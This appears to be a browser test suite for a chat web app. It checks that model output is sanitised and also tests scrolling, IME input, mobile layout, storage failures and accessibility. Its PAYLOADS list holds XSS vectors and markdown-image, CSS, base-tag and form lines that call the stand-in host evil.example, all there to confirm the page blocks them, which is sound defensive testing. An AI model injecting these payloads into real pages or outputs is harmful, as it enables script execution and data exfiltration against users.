// What a model writes, what a browser refuses, and how different people reach the page.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { AXE, box, browser, gateway, open, send, SHOTS, violations } from "./setup.mjs";

const articles = (page) => page.getByRole("article");

let chrome;
let gate;

before(async () => {
  chrome = await browser();
  gate = await gateway();
});

after(async () => {
  await chrome?.close();
  gate?.stop();
});

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "![x](https://evil.example/leak?q=1)",
  "![x](javascript:alert(1))",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<style>@import url(https://evil.example/a.css)</style>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><button>x</button></form>",
  "```html\n<script>alert(1)</script>\n```",
  "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
  "[x]: javascript:alert(1)\n\n[x]",
  "<object data=https://evil.example/x></object>",
  "[x](//evil.example/path)",
  "`<img src=x onerror=alert(1)>`",
];

const watchPolicy = (page) => page.addInitScript(() => {
  window.violations = [];
  document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
});

test("nothing that a model writes runs, loads or leads astray", async () => {
  const page = await open(chrome, gate, { before: watchPolicy });
  for (const [n, payload] of PAYLOADS.entries()) {
    await gate.up.says(`[payload ${n}]`, `before ${payload}\n\n${payload}\n\nafter`);
    await send(page, `[payload ${n}]`);
  }
  const bad = await page.evaluate(() => {
    const log = document.getElementById("log");
    const tags = log.querySelectorAll("script, iframe, object, embed, svg, style, base, form, math, img").length;
    const links = [...log.querySelectorAll("a")].map((link) => link.href).filter((href) => !/^(https?|mailto):|^#/.test(href));
    return { tags, links, violations: window.violations };
  });
  assert.deepEqual(bad, { tags: 0, links: [], violations: [] });
  for (const link of await page.locator("#log a").all()) assert.match(await link.getAttribute("rel"), /noopener/);
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

test("a model's name is a text", async () => {
  const names = PAYLOADS.map((payload) => payload.replace(/\s+/g, " "));
  const odd = await gateway({}, { odd: names });
  const page = await open(chrome, odd, { before: watchPolicy });
  await page.getByLabel("Model", { exact: true }).click();
  const shown = await page.locator("#model-list .name").allTextContents();
  for (const name of names) assert.ok(shown.includes(name), name);
  assert.equal(await page.locator("#model-list").evaluate((list) => list.querySelectorAll(":not(li, button, span)").length), 0);
  for (const name of names.slice(0, 3)) {
    await page.locator("#model-list button", { has: page.getByText(name, { exact: true }) }).click();
    assert.equal(await page.locator("#model").textContent(), name);
    await page.getByLabel("Model", { exact: true }).click();
  }
  assert.deepEqual(await page.evaluate(() => window.violations), []);
  assert.deepEqual(page.faults, []);
  await page.context().close();
  odd.stop();
});

test("code is coloured, and Copy takes its source", async () => {
  const source = "#include <stdio.h>\nint main() { return 0; } // &lt;\n";
  await gate.up.says("[code]", `Here:\n\n\`\`\`c\n${source}\`\`\`\n`);
  const page = await open(chrome, gate, { context: { permissions: ["clipboard-read", "clipboard-write"] } });
  await send(page, "[code]");
  await page.locator("pre .hljs-keyword, pre .hljs-type").first().waitFor();
  await page.locator("figure.code button").click();
  await page.getByRole("button", { name: "Copied" }).waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), source.trimEnd());
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

test("Enter within a composition does not send", async () => {
  const page = await open(chrome, gate);
  const client = await page.context().newCDPSession(page);
  await box(page).focus();
  await client.send("Input.imeSetComposition", { text: "にほ", selectionStart: 2, selectionEnd: 2 });
  await client.send("Input.dispatchKeyEvent", { type: "keyDown", key: "Enter", code: "Enter", windowsVirtualKeyCode: 229 });
  await client.send("Input.dispatchKeyEvent", { type: "keyUp", key: "Enter", code: "Enter", windowsVirtualKeyCode: 13 });
  assert.equal(await articles(page).count(), 0);
  await client.send("Input.insertText", { text: "にほん" });
  await page.waitForTimeout(50);
  await box(page).press("Enter");
  await articles(page).nth(0).getByText("にほん").waitFor();
  await page.context().close();
});

test("who scrolls up is left alone until they come back", async () => {
  const page = await open(chrome, gate);
  await send(page, "[long] first");
  await send(page, "[slow] [long] second", { wait: false });
  await articles(page).nth(3).getByText("word word word").waitFor();
  const top = () => page.locator("#log").evaluate((node) => node.scrollTop);
  await page.locator("#log").hover();
  await page.mouse.wheel(0, -400);
  await page.waitForTimeout(150);
  const held = await top();
  await page.waitForTimeout(600);
  assert.equal(await top(), held, "the view holds still");
  await page.getByRole("button", { name: "↓ New text" }).click();
  await page.waitForTimeout(600);
  const left = await page.locator("#log").evaluate((node) => node.scrollHeight - node.clientHeight - node.scrollTop);
  assert.ok(left < 5, `follows again, ${left} from the end`);
  await page.getByRole("button", { name: "Stop" }).click();
  await page.context().close();
});

test("a question goes to the top and stays there while its answer fills the view, and when it ends", async () => {
  const page = await open(chrome, gate);
  await send(page, "[long] first");
  const places = page.evaluate(() => new Promise((done) => {
    const log = document.getElementById("log");
    const seen = [];
    const shifted = [];
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) for (const { node } of entry.sources) shifted.push(node?.parentElement?.closest("article")?.ariaLabel ?? "page");
    }).observe({ type: "layout-shift" });
    const look = () => {
      const [question, answer] = [...log.querySelectorAll("article")].slice(2);
      if (answer) seen.push(Math.round(question.getBoundingClientRect().top - log.getBoundingClientRect().top));
      if (answer?.querySelector(".foot button")) setTimeout(() => done({ seen, shifted, text: answer.innerText.length }), 100);
      else requestAnimationFrame(look);
    };
    look();
  }));
  await box(page).fill("[slow] second");
  await box(page).press("Enter");
  const { seen, shifted, text } = await places;
  assert.ok(text > 50, "an answer came");
  assert.ok(seen.length > 3, `frames: ${seen}`);
  assert.deepEqual([...new Set(seen)], [16], "the question stands below the upper edge and does not move");
  assert.deepEqual(shifted.filter((name) => name !== "alpha:latest"), [], "nothing but the answer itself moves");
  await page.context().close();
});

test("on a phone Enter breaks the line, and the chats are a drawer", async () => {
  const page = await open(chrome, gate, { context: { viewport: { width: 390, height: 780 }, hasTouch: true, isMobile: true } });
  await box(page).fill("one");
  await box(page).press("Enter");
  assert.equal(await box(page).inputValue(), "one\n");
  await page.getByRole("button", { name: "Send" }).click();
  await articles(page).nth(1).getByText(/tokens/).waitFor();
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), true, "nothing is wider than the screen");
  assert.equal(await page.getByLabel("Search chats").isVisible(), false);
  await page.getByRole("button", { name: "Show chats" }).click();
  await page.getByLabel("Search chats").waitFor();
  await page.screenshot({ path: `${SHOTS}phone-drawer.png` });
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

test("where the browser stores nothing, the page works from memory and says so", async () => {
  const page = await open(chrome, gate, {
    before: (page) => page.addInitScript(() => {
      const refuse = { get: () => { throw new DOMException("no", "SecurityError"); } };
      for (const name of ["localStorage", "sessionStorage"]) Object.defineProperty(window, name, refuse);
      Object.defineProperty(window, "indexedDB", { value: { open: () => { throw new DOMException("no", "SecurityError"); } } });
    }),
  });
  await page.getByText("This browser keeps nothing for this page").waitFor();
  await send(page, "from memory");
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

test("where the storage is full, the page says so and goes on", async () => {
  const page = await open(chrome, gate, {
    before: (page) => page.addInitScript(() => {
      IDBObjectStore.prototype.put = () => { throw new DOMException("full", "QuotaExceededError"); };
    }),
  });
  await send(page, "no room");
  await page.getByText("storage is full").first().waitFor();
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

for (const colorScheme of ["light", "dark"]) {
  for (const width of [1280, 390]) {
    test(`no barrier that axe finds: ${colorScheme}, ${width} px`, async () => {
      await gate.up.says("[rich]", "# Title\n\nText with `code` and [a link](https://example.org).\n\n```js\nconst a = 'b'; // c\n```\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n", { thoughts: 8 });
      await gate.up.cuts("[cut]");
      const page = await open(chrome, gate, {
        context: { colorScheme, viewport: { width, height: 800 }, reducedMotion: "reduce" },
        before: (page) => page.addInitScript({ content: AXE }),
      });
      const look = async (state) => {
        await page.screenshot({ path: `${SHOTS}${state}-${colorScheme}-${width}.png` });
        assert.deepEqual(await violations(page), [], state);
      };
      await look("empty");
      await send(page, "[rich]");
      await page.locator("pre span").first().waitFor();
      await look("chat");
      await send(page, "[slow] [long] words", { wait: false });
      await articles(page).nth(3).getByText("word").waitFor();
      await look("streaming");
      await page.getByRole("button", { name: "Stop" }).click();
      await send(page, "[cut] it", { wait: false });
      await page.getByRole("alert").waitFor();
      await look("error");
      await page.getByRole("button", { name: "Settings" }).click();
      await look("dialog");
      assert.deepEqual(page.faults, []);
      await page.context().close();
    });
  }
}
